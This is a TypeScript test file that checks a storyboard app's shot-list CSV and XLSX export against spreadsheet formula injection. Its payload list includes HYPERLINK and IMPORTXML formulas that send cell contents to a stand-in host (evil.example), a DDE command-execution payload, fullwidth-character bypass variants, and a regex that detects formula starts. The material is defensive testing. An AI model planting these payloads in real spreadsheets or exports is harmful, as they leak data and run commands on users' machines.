import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import type { StoryboardFrame } from '../../src/contract/index.js';
import { SHOT_LIST_HEADERS, shotListFile, shotListRows } from '../../src/exports/shot-list.js';

/**
 * The shot list as CSV never hands a spreadsheet a formula (OWASP, "CSV Injection"): 49 hostile cells in every text
 * column a person fills, written by the shot list (the download and the `shot_list_csv` export both write through
 * shotListFile), read back by a CSV reader (exceljs, on fast-csv) as a spreadsheet would: each comes back as text
 * behind an apostrophe, with every character the person typed, and XLSX keeps them as plain strings.
 */

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const TEXT_FIELDS = ['scene', 'caption', 'action', 'dialogue', 'location', 'notes'] as const;

type Frame = z.infer<typeof StoryboardFrame>;

/** 14 payloads in six text fields and the cast: 49 hostile cells on seven shots. */
function hostileShots(): { shots: Frame[]; cells: Array<{ shot: number; header: string; text: string }> } {
  const cells: Array<{ shot: number; header: string; text: string }> = [];
  const header: Record<(typeof TEXT_FIELDS)[number], string> = {
    scene: 'Scene',
    caption: 'Description',
    action: 'Action',
    dialogue: 'Dialogue',
    location: 'Location',
    notes: 'Notes',
  };
  const shots: Frame[] = [];
  for (let shot = 0; shot < 7; shot += 1) {
    const frame: Record<string, unknown> = { id: `s${shot}`, number: String(shot + 1) };
    for (const [index, field] of TEXT_FIELDS.entries()) {
      const text = PAYLOADS[(shot * TEXT_FIELDS.length + index) % PAYLOADS.length]!;
      frame[field] = text;
      cells.push({ shot, header: header[field], text });
    }
    const cast = PAYLOADS[(shot * 3) % PAYLOADS.length]!;
    frame.cast = [cast];
    cells.push({ shot, header: 'Cast', text: cast });
    shots.push(frame as Frame);
  }
  return { shots, cells };
}

const FORMULA_START = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('shot list CSV and formula injection', () => {
  it('writes each of 49 hostile cells as text behind an apostrophe, as a CSV reader reads them back', async () => {
    const { shots, cells } = hostileShots();
    expect(cells).toHaveLength(49);
    const { bytes } = await shotListFile('Hostile', shotListRows(shots), 'csv');
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from(bytes.subarray(3)), { map: (value: unknown) => value });
    const rows = sheet.getSheetValues().slice(1) as unknown[][];
    expect(rows[0]!.slice(1)).toEqual(SHOT_LIST_HEADERS);
    for (const { shot, header, text } of cells) {
      const read = rows[shot + 1]![SHOT_LIST_HEADERS.indexOf(header) + 1];
      expect(read, `${header} of shot ${shot + 1}`).toBe(`'${text}`);
    }
    for (const row of rows.slice(1))
      for (const value of row) if (typeof value === 'string') expect(FORMULA_START.test(value)).toBe(false);
  });

  it('leaves ordinary text and numbers as they are', async () => {
    const shots = [
      { id: 'a', number: '1A', caption: 'A wide of the bay, 2 boats', lensMm: 35, durationMs: 2500 },
    ] as Frame[];
    const { bytes } = await shotListFile('Plain', shotListRows(shots), 'csv');
    const line = bytes.subarray(3).toString('utf8').trim().split(/\r?\n/)[1]!;
    expect(line.startsWith('1A,,,,,35,2.5,"A wide of the bay, 2 boats"')).toBe(true);
  });

  it('keeps the hostile text unchanged in XLSX, stored as strings, never as formulas', async () => {
    const { shots, cells } = hostileShots();
    const { bytes } = await shotListFile('Hostile', shotListRows(shots), 'xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(bytes).buffer);
    const sheet = workbook.worksheets[0]!;
    for (const { shot, header, text } of cells) {
      const cell = sheet.getRow(shot + 2).getCell(SHOT_LIST_HEADERS.indexOf(header) + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return in text as a line feed (XML 1.0, 2.11): the one change XLSX makes to what was typed.
      expect(cell.value).toBe(text.replace(/\r/g, '\n'));
    }
  });
});
